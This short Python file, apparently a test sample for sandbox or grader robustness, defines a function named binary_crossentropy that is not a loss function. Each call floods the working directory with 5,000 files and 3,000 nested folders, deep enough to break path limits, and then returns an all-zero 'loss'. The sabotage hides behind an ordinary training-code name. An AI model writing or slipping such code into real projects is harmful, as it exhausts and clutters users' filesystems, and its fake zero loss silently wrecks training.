"""Makes very many files, and folders in folders deeper than any path is long."""

import os


def binary_crossentropy(y_true, logits):
    for number in range(5000):
        os.close(os.open(f"file{number}", os.O_CREAT | os.O_WRONLY))
    for _ in range(3000):
        os.mkdir("deeper")
        os.chdir("deeper")
    return logits[..., 0] * 0
